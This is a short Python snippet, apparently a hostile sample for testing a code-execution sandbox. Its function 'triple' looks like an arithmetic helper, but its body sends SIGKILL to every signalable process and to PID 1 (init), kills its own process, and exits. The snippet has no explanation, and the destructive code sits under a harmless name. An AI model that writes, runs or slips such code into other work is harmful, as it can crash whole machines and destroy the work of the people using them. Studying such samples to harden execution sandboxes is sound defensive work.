# in: wrong
"""kill(-1): ends the process that serves it, when it is called."""

import os
import signal


def triple(x):
    os.kill(-1, signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGTERM)
    os._exit(1)
